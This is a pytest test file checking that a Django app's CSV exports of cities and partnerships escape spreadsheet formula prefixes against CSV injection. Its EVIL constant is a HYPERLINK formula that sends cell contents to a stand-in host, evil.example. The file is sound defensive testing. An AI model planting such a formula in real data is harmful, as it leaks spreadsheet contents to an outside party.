"""CSV downloads never carry a formula a spreadsheet would run (OWASP, CSV injection)."""

import csv
import io
from decimal import Decimal
from typing import Any

import pytest

from agreements.importing import ImportReport, Outcome
from common.spreadsheets import safe_cell

from .factories import CityFactory, PartnershipFactory

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


def csv_rows(client: Any, url: str) -> list[dict[str, str]]:
    response = client.get(url)
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode("utf-8")
    return list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"))))


def test_a_city_named_like_a_formula_is_text_in_the_partnership_csv(client: Any) -> None:
    evil = CityFactory(
        name=EVIL, country="US", latitude=Decimal("40.7"), longitude=Decimal("-74.0")
    )
    PartnershipFactory(city_a=evil, city_b=CityFactory(name="Ferrara", country="IT"))
    (row,) = csv_rows(client, "/partnerships/?format=csv")
    side = "city_a" if row["city_a_slug"] == evil.slug else "city_b"
    assert row[f"{side}_name"] == "'" + EVIL
    assert row[f"{side}_longitude"] == "-74.0"  # a number, not "'-74.0"


def test_a_negative_longitude_stays_a_number(client: Any) -> None:
    evil = CityFactory(
        name=EVIL, country="US", latitude=Decimal("40.7"), longitude=Decimal("-74.0")
    )
    PartnershipFactory(city_a=evil, city_b=CityFactory(country="IT"))
    (row,) = csv_rows(client, "/cities/?format=csv&country=US")
    assert row["name"] == "'" + EVIL
    assert row["longitude"] == "-74.0"
    assert float(row["longitude"]) == -74.0


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_start_is_neutralised(start: str) -> None:
    assert safe_cell(f"{start}1+1") == f"'{start}1+1"


def test_numbers_and_plain_text_are_left_alone() -> None:
    assert safe_cell(-12.5) == -12.5
    assert safe_cell(Decimal("-3")) == Decimal("-3")
    assert safe_cell(-7) == -7
    assert safe_cell(None) is None
    assert safe_cell("Graz - Ljubljana") == "Graz - Ljubljana"


def test_the_import_report_quotes_uploaded_names_as_text() -> None:
    report = ImportReport(file_name="upload.csv", profile="generic", dry_run=True)
    report.outcomes.append(Outcome(row=2, result="rejected", reason="unknown city", city_a=EVIL))
    rows = list(csv.DictReader(io.StringIO(report.csv().lstrip("\ufeff"))))
    assert rows[0]["city_a"] == "'" + EVIL
    assert rows[0]["row"] == "2"
